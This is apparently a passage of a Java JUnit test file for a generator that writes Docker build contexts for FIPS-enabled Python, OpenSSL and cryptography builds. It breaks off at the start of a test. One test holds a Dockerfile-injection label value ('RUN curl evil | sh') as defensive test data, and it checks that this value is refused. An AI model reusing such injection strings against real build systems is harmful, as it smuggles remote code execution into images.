package dev.pythonfips.model.render;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.pythonfips.model.FipsConfigException;
import dev.pythonfips.model.Platform;
import dev.pythonfips.model.PomWording;
import dev.pythonfips.model.Problem;
import dev.pythonfips.model.Version;
import dev.pythonfips.model.catalog.Catalog;
import dev.pythonfips.model.catalog.Distro;
import dev.pythonfips.model.catalog.Release;
import dev.pythonfips.model.plan.FipsSpec;
import dev.pythonfips.model.plan.Plan;
import dev.pythonfips.model.plan.Specs;
import dev.pythonfips.model.source.SourceProvider;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class GeneratorTest {

    @TempDir
    Path tmp;

    private Generator.Result generate(FipsSpec spec, Path out) throws Exception {
        return new Generator().generate(Specs.planner().plan(spec), out, SourceProvider.deferred(), m -> { });
    }

    @Test
    void matrixJsonReadsBackAsTheCellsThatWereGeneratedAndSelectsLikeFipsCells() throws Exception {
        Path out = tmp.resolve("fips");
        Plan plan = Specs.planner().plan(Specs.seedMatrix());
        new Generator().generate(plan, out, SourceProvider.deferred(), m -> { });
        GeneratedMatrix read = GeneratedMatrix.read(out, PomWording.INSTANCE);
        assertThat(read).isEqualTo(GeneratedMatrix.of(plan));
        assertThat(read.cells().get(2).prefix()).isEqualTo("/opt/python-fips");
        assertThat(read.cells().get(2).platforms()).extracting(Platform::toString).containsExactly("linux/amd64", "linux/arm64");
        assertThat(read.select("3.9.19-*", PomWording.INSTANCE).cells()).extracting(GeneratedMatrix.Entry::id)
                .containsExactly("3.9.19-rocky9-openssl1.0.2u-fips2.0.16", "3.9.19-wolfi-openssl1.0.2u-fips2.0.16");
        assertThatThrownBy(() -> read.select("3.10.*", PomWording.INSTANCE)).hasMessageContaining("matches no cell");
        assertThatThrownBy(() -> GeneratedMatrix.read(tmp.resolve("nothing"), PomWording.INSTANCE)).hasMessageContaining("does not exist: the build contexts were not generated into");
    }

    @Test
    void writesOneSelfContainedContextPerCellAndMatrixJson() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.seedMatrix(), out);
        JsonNode matrix = new ObjectMapper().readTree(out.resolve("matrix.json").toFile());
        assertThat(matrix.path("cells")).hasSize(6);
        JsonNode first = matrix.path("cells").get(2);
        assertThat(first.path("id").asText()).isEqualTo("3.11.9-rocky9-openssl3.0.9");
        assertThat(first.path("python").asText()).isEqualTo("3.11.9");
        assertThat(first.path("distro").asText()).isEqualTo("rocky9");
        assertThat(first.path("openssl").asText()).isEqualTo("3.0.9");
        assertThat(first.path("fipsProvider").asText()).isEqualTo("3.0.9");
        assertThat(first.path("platforms").toString()).isEqualTo("[\"linux/amd64\",\"linux/arm64\"]");
        assertThat(first.path("image").asText()).isEqualTo("python-fips:3.11.9-rocky9-openssl3.0.9");
        assertThat(first.path("contextDir").asText()).isEqualTo("3.11.9-rocky9-openssl3.0.9");
        // jobs.json: one fan-out job per cell and platform, each with the -D options that build and push just that
        JsonNode jobs = new ObjectMapper().readTree(out.resolve(Generator.JOBS_FILE).toFile()).path("include");
        int platforms = 0;
        for (JsonNode c : matrix.path("cells")) {
            platforms += c.path("platforms").size();
        }
        assertThat(jobs).hasSize(platforms);
        assertThat(jobs).anySatisfy(j -> {
            assertThat(j.path("cell").asText()).isEqualTo("3.11.9-rocky9-openssl3.0.9");
            assertThat(j.path("platform").asText()).isEqualTo("linux/arm64");
            assertThat(j.path("arch").asText()).isEqualTo("arm64");
            assertThat(j.path("mavenArgs").asText()).isEqualTo("-Dfips.cells=3.11.9-rocky9-openssl3.0.9 -Dfips.job.platform=linux/arm64"
                    + " -Dfips.push.perPlatform=true");
        });

        Path ctx = out.resolve("3.11.9-rocky9-openssl3.0.9");
        for (String f : List.of("Dockerfile", "cell.env", "openssl.cnf", "manifest.json", "scripts/packages.sh",
                "scripts/build-python.sh", "scripts/build-openssl.sh", "scripts/build-fips-module.sh",
                "conformance/conformance.py", "patches/python-fips.patch", "sources/SHA256SUMS", "sources/URLS", "fetch-sources.sh")) {
            assertThat(ctx.resolve(f)).as(f).isRegularFile();
        }
        // every file the Dockerfile COPYs is in the context
        for (String line : Files.readAllLines(ctx.resolve("Dockerfile"))) {
            if (line.startsWith("COPY ") && !line.startsWith("COPY --from")) {
                String[] parts = line.substring(5).trim().split("\\s+");
                for (int i = 0; i < parts.length - 1; i++) {
                    if (!parts[i].startsWith("sources/Python-") && !parts[i].startsWith("sources/openssl")) {
                        assertThat(ctx.resolve(parts[i])).as("COPY source " + parts[i]).exists();
                    }
                }
            }
        }
        assertThat(Files.readString(ctx.resolve("patches/python-fips.patch")))
                .isEqualTo(ContextRenderer.patch(Version.parse("3.11.9")));
        assertThat(Files.readString(ctx.resolve("sources/SHA256SUMS")))
                .contains("  Python-3.11.9.tar.xz\n").contains("  openssl-3.0.9.tar.gz\n");
        assertThat(Files.readString(ctx.resolve("cell.env")))
                .contains("PYFIPS_PYTHON_VERSION='3.11.9'");
        // the provider of the library's own tarball is built with the library: no FIPS module step of its own
        assertThat(Files.readString(ctx.resolve("env/fips-module.commands"))).isEmpty();
        assertThat(Files.readString(ctx.resolve("env/openssl.commands"))).contains("\n./Configure enable-fips no-tests shared --prefix=/opt/python-fips ");
    }

    @Test
    void multiPlatformCellTakesItsBaseAsABuildArgumentSinglePlatformCellNamesItDirectly() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.seedMatrix(), out);
        // amd64 + arm64: every stage starts FROM the per-platform pinned base fips:build passes, defaulting to the distro's
        String multi = Files.readString(out.resolve("3.11.9-rocky9-openssl3.0.9/Dockerfile"));
        assertThat(multi).contains("ARG PYTHON_FIPS_BASE_IMAGE=docker.io/rockylinux/rockylinux:9-minimal");
        assertThat(multi.lines().filter(l -> l.startsWith("FROM ")).toList()).containsExactly(
                "FROM ${PYTHON_FIPS_BASE_IMAGE} AS patch", "FROM ${PYTHON_FIPS_BASE_IMAGE} AS build",
                "FROM ${PYTHON_FIPS_BASE_IMAGE} AS runtime");
        // the legacy 2.0.16 cell is amd64 only: the base is named directly, no build argument
        String single = Files.readString(out.resolve("3.9.19-rocky9-openssl1.0.2u-fips2.0.16/Dockerfile"));
        assertThat(single).doesNotContain("PYTHON_FIPS_BASE_IMAGE");
        assertThat(single.lines().filter(l -> l.startsWith("FROM ")).toList()).allMatch(l -> l.startsWith("FROM docker.io/rockylinux/rockylinux:9-minimal AS "));
    }

    @Test
    void legacyCellsBuildTheFipsObjectModuleWithTheCanonicalCommands() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.seedMatrix(), out);
        Path ctx = out.resolve("3.9.19-rocky9-openssl1.0.2u-fips2.0.16");
        assertThat(Files.readString(ctx.resolve("sources/SHA256SUMS"))).contains("  openssl-fips-2.0.16.tar.gz\n");
        assertThat(Files.readString(ctx.resolve("openssl.cnf"))).contains("fips_mode = yes").doesNotContain("providers");
        JsonNode manifest = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile());
        assertThat(manifest.path("fips").path("kind").asText()).isEqualTo("fips-object-module-2");
        List<String> canonical = List.of("mkdir -p /fips/build", "cd /fips/build",
                "gunzip -c /fips/sources/openssl-fips-2.0.16.tar.gz | tar xf -", "cd openssl-fips-2.0.16", "./config", "make", "make install");
        assertThat(manifest.path("fips").path("buildCommands")).extracting(JsonNode::asText).containsExactlyElementsOf(canonical);
        assertThat(manifest.path("buildCommands").path("fips-module")).extracting(JsonNode::asText).containsExactlyElementsOf(canonical);
        assertThat(Files.readAllLines(ctx.resolve("env/fips-module.commands"))).isEqualTo(canonical);
        assertThat(Files.readString(ctx.resolve("env/openssl.commands"))).contains("\n./config fips shared no-ssl2 no-ssl3 "
                + "--with-fipsdir=/usr/local/ssl/fips-2.0 --prefix=/opt/python-fips --openssldir=/opt/python-fips/ssl "
                + "-Wl,-rpath,/opt/python-fips/lib\nmake depend\nmake\nmake install_sw\n");
        assertThat(manifest.path("fips").path("tarballModified").asBoolean()).isFalse();
        assertThat(manifest.path("fips").path("source").path("sha256").asText()).hasSize(64);
    }

    @Test
    void sameSpecGivesByteIdenticalOutput() throws Exception {
        Path a = tmp.resolve("a/fips");
        Path b = tmp.resolve("b/fips");
        generate(Specs.seedMatrix(), a);
        generate(Specs.seedMatrix(), b);
        assertThat(snapshot(a)).isEqualTo(snapshot(b));
        generate(Specs.seedMatrix(), a); // regenerating over an existing tree
        assertThat(snapshot(a)).isEqualTo(snapshot(b));
    }

    @Test
    void aFailureLeavesThePreviousOutputUntouchedAndNoStagingBehind() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.seedMatrix(), out);
        Map<String, String> before = snapshot(out);
        SourceProvider failing = new SourceProvider() {
            @Override
            public void prepare(Release release) throws FipsConfigException {
                throw new FipsConfigException(new Problem("python " + release.version(), "SHA-256 mismatch", "fix it"));
            }

            @Override
            public boolean place(Release release, Path target) {
                return false;
            }
        };
        assertThatThrownBy(() -> new Generator().generate(Specs.planner().plan(Specs.seedMatrix()), out, failing, m -> { }))
                .isInstanceOf(FipsConfigException.class).hasMessageContaining("SHA-256 mismatch");
        assertThat(snapshot(out)).isEqualTo(before);
        try (Stream<Path> s = Files.list(tmp)) {
            assertThat(s.map(p -> p.getFileName().toString())).containsExactly("fips");
        }
    }

    @Test
    void policyDecidesWhetherTheDefaultProviderIsLoaded() throws Exception {
        for (String policy : List.of("strict", "allow-non-security")) {
            Path out = tmp.resolve(policy);
            FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.11.9", "debian12", "3.0.9", "3.0.9")), List.of(), null,
                    Map.of(), Specs.options(policy, null, false), List.of());
            generate(s, out);
            String cnf = Files.readString(out.resolve("3.11.9-debian12-openssl3.0.9/openssl.cnf"));
            assertThat(cnf).contains("fips = fips_sect").contains("base = base_sect").contains("default_properties = fips=yes")
                    .contains(".include /opt/python-fips/ssl/fipsmodule.cnf");
            if (policy.equals("strict")) {
                assertThat(cnf).doesNotContain("default = default_sect");
            } else {
                assertThat(cnf).contains("default = default_sect").contains("[default_sect]\nactivate = 1");
            }
        }
    }

    /** Everything a Dockerfile's build stage sees up to and including the OpenSSL step: the inputs of its cached layers. */
    private static String opensslLayerInputs(Path ctx) throws IOException {
        String dockerfile = Files.readString(ctx.resolve("Dockerfile"));
        String build = dockerfile.substring(dockerfile.indexOf(" AS build"));
        StringBuilder inputs = new StringBuilder(build.substring(0, build.indexOf("RUN sh /fips/scripts/build-openssl.sh")));
        for (String f : List.of("env/fips-module.env", "env/fips-module.commands", "env/openssl.env",
                "env/openssl.commands", "sources/SHA256SUMS.fips-module",
                "sources/SHA256SUMS.openssl", "env/packages-build.env", "scripts/common.sh", "scripts/packages.sh", "scripts/stage-packages.sh",
                "scripts/build-fips-module.sh", "scripts/build-openssl.sh")) {
            inputs.append("--- ").append(f).append('\n').append(Files.readString(ctx.resolve(f)));
        }
        return inputs.toString();
    }

    @Test
    void cellsDifferingOnlyInPythonShareTheFipsModuleAndOpensslLayers() throws Exception {
        FipsSpec s = Specs.spec(Specs.matrix(List.of("3.11.9", "3.12.3"), List.of("debian12"), "3.0.9", "3.1.2", null), List.of());
        Path out = tmp.resolve("fips");
        generate(s, out);
        Path a = out.resolve("3.11.9-debian12-openssl3.0.9-fips3.1.2");
        Path b = out.resolve("3.12.3-debian12-openssl3.0.9-fips3.1.2");
        assertThat(opensslLayerInputs(a)).isEqualTo(opensslLayerInputs(b)).doesNotContain("3.11.9").doesNotContain("COPY cell.env");
        assertThat(Files.readString(a.resolve("env/runtime.env"))).isEqualTo(Files.readString(b.resolve("env/runtime.env")));
        // the per-layer checksum files hold only that layer's tarball; the Python one is copied after them
        assertThat(Files.readString(a.resolve("sources/SHA256SUMS.fips-module"))).endsWith("  openssl-3.1.2.tar.gz\n")
                .doesNotContain("openssl-3.0.9");
        assertThat(Files.readString(a.resolve("sources/SHA256SUMS.openssl"))).endsWith("  openssl-3.0.9.tar.gz\n")
                .doesNotContain("Python");
        String dockerfile = Files.readString(a.resolve("Dockerfile"));
        String build = dockerfile.substring(dockerfile.indexOf(" AS build"));
        assertThat(build.indexOf("COPY cell.env")).isGreaterThan(build.indexOf("RUN sh /fips/scripts/build-openssl.sh"));
        assertThat(build.indexOf("RUN sh /fips/scripts/build-fips-module.sh")).isLessThan(build.indexOf("COPY env/openssl.env"));
    }

    @Test
    void theCompileStepsSeeOnlyTheScriptsTheyRunSoFinishingChangesReuseThem() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.spec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.1.2"))), out);
        String dockerfile = Files.readString(out.resolve("3.12.3-debian12-openssl3.0.9-fips3.1.2/Dockerfile"));
        String build = dockerfile.substring(dockerfile.indexOf(" AS build"), dockerfile.indexOf(" AS runtime"));
        String compiles = build.substring(0, build.indexOf("RUN sh /fips/scripts/build-python.sh"));
        Set<String> compileScripts = Set.of("common.sh", "packages.sh", "stage-packages.sh", "build-fips-module.sh",
                "build-openssl.sh", "build-python.sh", "openssl-build.cnf");
        List<String> copied = compiles.lines().filter(l -> l.startsWith("COPY scripts/"))
                .flatMap(l -> Arrays.stream(l.split(" ")).filter(w -> w.startsWith("scripts/"))).toList();
        assertThat(copied).as("scripts copied before the Python build").isNotEmpty()
                .allSatisfy(s -> assertThat(compileScripts).contains(s.substring("scripts/".length())));
        // finish-install.sh, slim-prefix.sh, compile-bytecode.sh, runtime-setup.sh ... arrive after the compiles
        int all = build.indexOf("COPY scripts/ /fips/scripts/");
        assertThat(all).isGreaterThan(build.indexOf("RUN sh /fips/scripts/build-python.sh"))
                .isLessThan(build.indexOf("RUN sh /fips/scripts/finish-install.sh"));
    }

    @Test
    void eachStageSeesOnlyItsOwnPackageList() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.spec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.1.2"))), out);
        Path ctx = out.resolve("3.12.3-debian12-openssl3.0.9-fips3.1.2");
        Distro debian = Catalog.builtIn().distro("debian12").orElseThrow();
        for (String stage : List.of("patch", "build", "rust", "runtime")) {
            assertThat(Files.readString(ctx.resolve("env/packages-" + stage + ".env"))).as(stage)
                    .contains("PYFIPS_PACKAGES_" + stage.toUpperCase(java.util.Locale.ROOT) + "='"
                            + String.join(" ", debian.packages(stage)) + "'\n");
        }
        // a runtime-only package (libsqlite3-0) is in no input of the build layers: changing the runtime list
        // rebuilds only the runtime package layer
        assertThat(debian.packages("runtime")).contains("libsqlite3-0");
        assertThat(opensslLayerInputs(ctx)).doesNotContain("libsqlite3-0").doesNotContain("packages-runtime.env");
        String dockerfile = Files.readString(ctx.resolve("Dockerfile"));
        String runtime = dockerfile.substring(dockerfile.indexOf(" AS runtime"));
        assertThat(runtime).contains("COPY env/runtime.env env/packages-runtime.env /fips/env/\n");
    }

    @Test
    void cellsSharingTheProviderButNotTheLibraryShareTheFipsModuleLayer() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.spec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.1.2"),
                Specs.cell("3.12.3", "debian12", "3.1.2", "3.1.2"))), out);
        Path split = out.resolve("3.12.3-debian12-openssl3.0.9-fips3.1.2");
        assertThat(Files.readString(split.resolve("env/fips-module.env"))).contains("PYFIPS_FIPS_TARBALL='openssl-3.1.2.tar.gz'")
                .doesNotContain("3.0.9").doesNotContain("3.12.3");
        // the provider of the library's own tarball is built with the library: the FIPS module layer copies nothing
        Path own = out.resolve("3.12.3-debian12-openssl3.1.2");
        assertThat(Files.readString(own.resolve("sources/SHA256SUMS.fips-module"))).isEmpty();
        assertThat(Files.readString(own.resolve("Dockerfile"))).contains("COPY sources/SHA256SUMS.fips-module /fips/sources/\n");
    }

    @Test
    void aPolicyOrLabelChangeReusesEveryBuildLayer() throws Exception {
        Path out1 = tmp.resolve("a");
        Path out2 = tmp.resolve("b");
        FipsSpec.CellSpec cell = Specs.cell("3.12.3", "debian12", "3.0.9", "3.0.9");
        generate(new FipsSpec(null, List.of(cell), List.of(), null, Map.of(), Specs.options("strict", "build", false), List.of()), out1);
        generate(new FipsSpec(null, List.of(cell), List.of(), null, Map.of(), Specs.options("allow-non-security", "startup", false),
                List.of(), Map.of("com.example.team", "payments")), out2);
        Path a = out1.resolve("3.12.3-debian12-openssl3.0.9");
        Path b = out2.resolve("3.12.3-debian12-openssl3.0.9");
        for (String f : List.of("cell.env", "env/fips-module.env", "env/fips-module.commands", "env/openssl.env",
                "env/openssl.commands", "env/python.commands", "env/runtime.env")) {
            assertThat(Files.readString(a.resolve(f))).as(f).isEqualTo(Files.readString(b.resolve(f)));
        }
        String da = Files.readString(a.resolve("Dockerfile"));
        String db = Files.readString(b.resolve("Dockerfile"));
        String cut = "COPY --from=build";
        assertThat(da.substring(0, da.indexOf(cut))).isEqualTo(db.substring(0, db.indexOf(cut)));
    }

    @Test
    void optimizationsDefaultToPgoLtoAndReachTheBuild() throws Exception {
        Path out = tmp.resolve("fips");
        generate(Specs.spec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.0.9"))), out);
        Path ctx = out.resolve("3.12.3-debian12-openssl3.0.9");
        assertThat(Files.readString(ctx.resolve("env/python.commands"))).contains(" --with-openssl-rpath=auto --enable-optimizations --with-lto ");
        assertThat(Files.readString(ctx.resolve("Dockerfile"))).contains(" dev.pythonfips.python.optimizations=\"pgo-lto\"");
        JsonNode manifest = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile());
        assertThat(manifest.path("python").path("optimizations").asText()).isEqualTo("pgo-lto");
        // the default linkage, decided once in the recipe: the command that ran, the manifest and the label say it
        assertThat(manifest.path("python").path("interpreterLinkage").asText()).isEqualTo("executable-pie");
        assertThat(manifest.path("buildCommands").path("python")).extracting(JsonNode::asText)
                .anyMatch(c -> c.startsWith("make -j") && c.endsWith(" CFLAGSFORSHARED='$(CCSHARED)' LINKFORSHARED='-Xlinker -export-dynamic -pie'"))
                .noneMatch(c -> c.contains("--enable-shared"));
        assertThat(Files.readString(ctx.resolve("Dockerfile"))).contains(" dev.pythonfips.python.interpreter-linkage=\"executable-pie\"");
        assertThat(Files.readString(ctx.resolve("conformance/conformance.py"))).contains("want = MANIFEST[\"python\"][\"interpreterLinkage\"]");
        assertThat(manifest.path("python").path("configure")).extracting(JsonNode::asText)
                .contains("--enable-optimizations", "--with-lto");

        FipsSpec.Options none = FipsSpec.Options.builder().optimizations("none").build();
        Path out2 = tmp.resolve("none");
        generate(new FipsSpec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.0.9")), List.of(), null, Map.of(),
                none, List.of()), out2);
        assertThat(Files.readString(out2.resolve("3.12.3-debian12-openssl3.0.9/env/python.commands")))
                .contains(" --with-openssl-rpath=auto --with-builtin-hashlib-hashes=no ").doesNotContain("optimizations").doesNotContain("lto");
        // PGO's training skips the FIPS refusals the strict build configuration makes test_hashlib expect (3.13 stops the
        // build on a failing training test), whatever the cell's policy; a build without PGO has no training
        assertThat(Files.readString(ctx.resolve("env/pgo-training-ignore.txt")))
                .contains("test.test_hashlib.HashLibTestCase.test_case_md5_0\n");
        assertThat(Files.readString(ctx.resolve("Dockerfile"))).contains("COPY env/python.commands env/pgo-training-ignore.txt /fips/env/\n");
        assertThat(out2.resolve("3.12.3-debian12-openssl3.0.9/env/pgo-training-ignore.txt")).doesNotExist();
        assertThat(Files.readString(out2.resolve("3.12.3-debian12-openssl3.0.9/Dockerfile"))).contains("COPY env/python.commands /fips/env/\n");
        FipsSpec.Options allow = FipsSpec.Options.builder().policy("allow-non-security").build();
        Path out3 = tmp.resolve("allow");
        generate(new FipsSpec(null, List.of(Specs.cell("3.12.3", "debian12", "3.0.9", "3.0.9")), List.of(), null, Map.of(),
                allow, List.of()), out3);
        assertThat(out3.resolve("3.12.3-debian12-openssl3.0.9/env/pgo-training-ignore.txt"))
                .hasSameTextualContentAs(ctx.resolve("env/pgo-training-ignore.txt"));
        assertThat(Files.readString(out3.resolve("3.12.3-debian12-openssl3.0.9/conformance/cpython-test-ignore.txt")))
                .doesNotContain("test_case_md5_0");
    }

    @Test
    void pipIsShippedByDefaultAndAPiplessCellSaysSoWhereTheScriptsAndTheConformanceCheckReadIt() throws Exception {
        FipsSpec.CellSpec cell = Specs.cell("3.11.9", "debian12", "3.0.9", "3.0.9");
        Path with = tmp.resolve("with");
        generate(Specs.spec(null, List.of(cell)), with);
        Path ctx = with.resolve("3.11.9-debian12-openssl3.0.9");
        assertThat(Files.readString(ctx.resolve("env/finish.env"))).contains("PYFIPS_PIP='true'").contains("PYFIPS_KEEP_TESTS='false'");
        assertThat(Files.readString(ctx.resolve("cell.env"))).doesNotContain("PYFIPS_PIP=").doesNotContain("KEEP_TESTS");
        assertThat(new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile()).path("python").path("pip").asBoolean(false)).isTrue();

        FipsSpec.Options noPip = FipsSpec.Options.builder().optimizations("none").pip(false).build();
        Path without = tmp.resolve("without");
        generate(new FipsSpec(null, List.of(cell), List.of(), null, Map.of(), noPip, List.of()), without);
        Path ctx2 = without.resolve("3.11.9-debian12-openssl3.0.9");
        assertThat(Files.readString(ctx2.resolve("env/finish.env"))).contains("PYFIPS_PIP='false'");
        assertThat(manifest(ctx2).path("decisions").path("pip").asBoolean(true)).isFalse();
        assertThat(manifest(ctx).path("decisions").path("pip").asBoolean(false)).isTrue();
        JsonNode manifest = new ObjectMapper().readTree(ctx2.resolve("manifest.json").toFile());
        assertThat(manifest.path("python").path("pip").isBoolean()).isTrue();
        assertThat(manifest.path("python").path("pip").asBoolean(true)).isFalse();
        // slim-prefix.sh removes pip only when told so; the conformance check then asserts it is absent
        assertThat(Files.readString(ctx2.resolve("scripts/slim-prefix.sh")))
                .contains("if [ \"$PYFIPS_PIP\" = false ]; then").contains("-m pip uninstall -y -q --no-input pip");
        assertThat(Files.readString(ctx2.resolve("conformance/conformance.py")))
                .contains("if not DECISIONS[\"pip\"]:");
        // pip is removed after every compile: everything up to the finishing step is the same with or without it
        FipsSpec.Options withPip = FipsSpec.Options.builder().optimizations("none").build();
        Path with2 = tmp.resolve("with2");
        generate(new FipsSpec(null, List.of(cell), List.of(), null, Map.of(), withPip, List.of()), with2);
        Path ctx3 = with2.resolve("3.11.9-debian12-openssl3.0.9");
        for (String f : List.of("cell.env", "env/python.commands", "env/openssl.commands", "Dockerfile")) {
            assertThat(ctx2.resolve(f)).as(f).hasSameTextualContentAs(ctx3.resolve(f));
        }
        String dockerfile = Files.readString(ctx2.resolve("Dockerfile"));
        assertThat(dockerfile.indexOf("COPY env/finish.env /fips/env/\nCOPY manifest.json"))
                .isGreaterThan(dockerfile.indexOf("RUN sh /fips/scripts/build-python.sh"));
    }

    @Test
    void extraLabelsAndCryptographyFromAPackageIndexReachTheContext() throws Exception {
        FipsSpec.Options o = FipsSpec.Options.builder().cryptography("38.0.4").pipIndexUrl("file:///wheelhouse")
                .build();
        FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.13.5", "debian13", "3.1.2", "3.1.2")), List.of(), null,
                Map.of(), o, List.of(), Map.of("com.example.team", "payments"));
        Path out = tmp.resolve("fips");
        generate(s, out);
        Path ctx = out.resolve("3.13.5-debian13-openssl3.1.2");
        String dockerfile = Files.readString(ctx.resolve("Dockerfile"));
        assertThat(dockerfile).contains(" com.example.team=\"payments\"")
                .contains("RUN sh /fips/scripts/packages.sh rust && sh /fips/scripts/unpack-deb-packages.sh")
                .contains("RUN sh /fips/scripts/build-cryptography.sh");
        // its layers come after Python's: adding cryptography to a cell rebuilds none of the compiles before it
        assertThat(dockerfile.indexOf("packages.sh rust")).isGreaterThan(dockerfile.indexOf("build-python.sh"));
        assertThat(Files.readString(ctx.resolve("cell.env"))).doesNotContain("CRYPTOGRAPHY").doesNotContain("wheelhouse");
        // from the index: the distro's Rust toolchain (and patch), nothing unpacked, the sdist verified from the mirror
        assertThat(Files.readString(ctx.resolve("env/packages-rust.env")))
                .contains("PYFIPS_PACKAGES_RUST='cargo rustc gzip patch tar xz-utils'");
        assertThat(Files.readString(ctx.resolve("env/cryptography.env"))).contains("PYFIPS_UNPACK_PACKAGES=''");
        assertThat(Files.readString(ctx.resolve("sources/SHA256SUMS.cryptography")))
                .isEqualTo("175c1a818b87c9ac80bb7377f5520b7f31b3ef2a0004e2420319beadedb67290  cryptography-38.0.4.tar.gz\n");
        assertThat(Files.readString(ctx.resolve("env/cryptography.commands")))
                .contains("patch -p1 -i /fips/patches/cryptography/python-fips.patch\n")
                .contains("-m pip install --no-cache-dir --disable-pip-version-check --index-url file:///wheelhouse ./cryptography-38.0.4\n")
                .doesNotContain("debian/patches").doesNotContain("--no-index");
        assertThat(Files.readString(ctx.resolve("patches/cryptography/python-fips.patch")))
                .contains("+                import _hashlib  # noqa: F401");
        JsonNode manifest = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile());
        assertThat(manifest.path("labels").path("com.example.team").asText()).isEqualTo("payments");
        assertThat(manifest.path("cryptography").asText()).isEqualTo("38.0.4");
        assertThat(manifest.path("cryptographyBuild").path("source").asText()).isEqualTo("package-index");
        assertThat(manifest.path("buildCommands").path("cryptography").get(0).asText()).isEqualTo("mkdir -p /fips/build/python-packages");
    }

    @Test
    void cryptographyFromDebian12sArchiveNeedsNoIndex() throws Exception {
        FipsSpec s = Specs.spec(null, List.of(new FipsSpec.CellSpec("3.11.9", "debian12", "3.0.9", "3.0.9", List.of(), "38.0.4"),
                Specs.cell("3.13.5", "debian13", "3.1.2", "3.1.2")));
        Path out = tmp.resolve("fips");
        generate(s, out);
        Path ctx = out.resolve("3.11.9-debian12-openssl3.0.9");
        String commands = Files.readString(ctx.resolve("env/cryptography.commands"));
        // Debian's packaging patches (to the crates Debian 12 ships), then ours; no lock file; cargo offline
        assertThat(commands).contains("xz -dc /fips/sources/python-cryptography_38.0.4-3+deb12u1.debian.tar.xz | tar xf - -C cryptography-38.0.4\n")
                .contains("patch -p1 -i debian/patches/Upgrade-to-pyo3-0.17.patch\n")
                .contains("rm -f cryptography-38.0.4/src/rust/Cargo.lock\n")
                .contains("CARGO_NET_OFFLINE=true")
                .doesNotContain("drop-cffi-dep").doesNotContain("--index-url");
        assertThat(commands.indexOf("debian/patches/0002-")).isLessThan(commands.indexOf("/fips/patches/cryptography/python-fips.patch"));
        // setuptools is a build-only tool (--target), cffi and cryptography go into the prefix; every install offline
        assertThat(commands).contains("--no-index --no-deps --no-build-isolation --target /fips/build/python-build-tools ./setuptools-78.1.1\n")
                .contains("--no-index --no-deps --no-build-isolation ./cffi-1.15.1\n")
                .contains("--no-index --no-deps --no-build-isolation ./cryptography-38.0.4\n");
        assertThat(commands.indexOf("./cffi-1.15.1")).isLessThan(commands.indexOf("./cryptography-38.0.4\n"));
        assertThat(Files.readString(ctx.resolve("env/packages-rust.env"))).contains("librust-pyo3-0.17-dev").contains("libffi-dev");
        assertThat(Files.readString(ctx.resolve("env/cryptography.env")))
                .contains("PYFIPS_UNPACK_PACKAGES='python3-setuptools-rust python3-semantic-version python3-typing-extensions python3-pycparser python3-ply'");
        assertThat(Files.readString(ctx.resolve("scripts/cargo-distro-registry.toml"))).contains("directory = \"/usr/share/cargo/registry\"");
        assertThat(Files.readString(ctx.resolve("sources/SHA256SUMS.cryptography")).lines().map(l -> l.substring(66)))
                .containsExactly("setuptools-78.1.1.tar.gz", "cffi-1.15.1.tar.gz", "cryptography-38.0.4.tar.gz",
                        "python-cryptography_38.0.4-3+deb12u1.debian.tar.xz");
        JsonNode build = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile()).path("cryptographyBuild");
        assertThat(build.path("source").asText()).isEqualTo("distro-archive");
        assertThat(build.path("shipped").toString()).isEqualTo("[\"cffi\",\"cryptography\"]");
        assertThat(Files.readString(ctx.resolve("Dockerfile"))).contains(" dev.pythonfips.cryptography.source=\"distro-archive\"")
                .contains(" dev.pythonfips.cryptography.version=\"38.0.4\"");
        // the other cell has none of it
        Path other = out.resolve("3.13.5-debian13-openssl3.1.2");
        assertThat(other.resolve("env/cryptography.commands")).doesNotExist();
        assertThat(other.resolve("sources/SHA256SUMS.cryptography")).doesNotExist();
        assertThat(Files.readString(other.resolve("Dockerfile"))).doesNotContain("cryptography");
    }

    @Test
    void labelsThatCouldBreakTheDockerfileAreRefused() {
        FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.13.5", "debian13", "3.1.2", "3.1.2")), List.of(), null,
                Map.of(), FipsSpec.Options.defaults(), List.of(),
                Map.of("com.example.x", "a\"\nRUN curl evil | sh", "dev.pythonfips.fips.validated", "true"));
        assertThatThrownBy(() -> Specs.planner().plan(s)).isInstanceOf(FipsConfigException.class)
                .satisfies(e -> assertThat(((FipsConfigException) e).problems()).extracting(Problem::element)
                        .containsExactlyInAnyOrder("<labels><com.example.x>", "<labels><dev.pythonfips.fips.validated>"));
    }

    static Map<String, String> snapshot(Path root) throws IOException {
        Map<String, String> files = new TreeMap<>();
        List<Path> all = new ArrayList<>();
        try (Stream<Path> s = Files.walk(root)) {
            s.filter(Files::isRegularFile).forEach(all::add);
        }
        for (Path p : all) {
            files.put(root.relativize(p).toString(), Files.readString(p));
        }
        return files;
    }

    @Test
    void deferredSourcesListEveryMirrorInOrderForFetchSources() throws Exception {
        Path out = tmp.resolve("mirrored");
